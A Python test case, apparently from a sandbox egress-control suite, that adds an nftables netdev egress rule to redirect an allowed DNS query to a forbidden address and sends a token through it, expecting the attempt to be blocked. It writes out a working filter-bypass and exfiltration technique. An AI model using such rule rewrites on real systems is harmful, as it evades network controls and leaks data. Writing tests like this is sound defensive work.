#!/usr/bin/python3
# id: b20g_nft_egress_rewrite
# title: a netdev egress chain rewrites the destination of an allowed query
# needs: root
# expect: block
# why: it acts behind the last hook of a cgroup
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess
def f():
    subprocess.run(f'nft add table netdev bpe && nft "add chain netdev bpe o {{ type filter hook egress device v0 priority 0 ; }}" && nft add rule netdev bpe o ip daddr {ALLOW} udp dport 53 ip daddr set {FORB}', shell=True, check=True)
    try: socket.socket(type=socket.SOCK_DGRAM).sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW, 53)); time.sleep(.3)
    finally: subprocess.run('nft delete table netdev bpe', shell=True)
attempt(f, chan=('dns', 'pkt'))
